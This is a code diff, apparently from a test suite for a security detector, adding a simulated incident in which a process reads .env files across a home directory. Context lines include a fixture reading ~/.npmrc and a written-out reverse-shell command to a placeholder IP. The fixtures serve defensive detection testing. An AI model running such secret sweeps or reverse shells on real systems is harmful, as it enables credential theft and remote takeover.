@@ -134,6 +134,12 @@ def keys_collected(story: Story) -> None:
         story.read(f"{HOME}/.npmrc")
 
 
+def home_swept(story: Story) -> None:
+    with story.run("/usr/bin/python3.11", "collect.py"):
+        for number in range(8):
+            story.read(f"{HOME}/work/{number}/.env")
+
+
 def shell_handed_over(story: Story) -> None:
     with story.run(SHELL, "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"):
         story.connect("203.0.113.5", 4444)
@@ -237,6 +243,12 @@ INCIDENTS = (
             *("secrets.process-memory", "secrets.token-files-by-hand"),
         ),
         keys_collected,
+    ),
+    Incident(
+        "sweep",
+        "a home swept for files of secrets, each of which might be read for a reason",
+        ("secrets.many-files",),
+        home_swept,
     ),
     Incident(
         "shell",
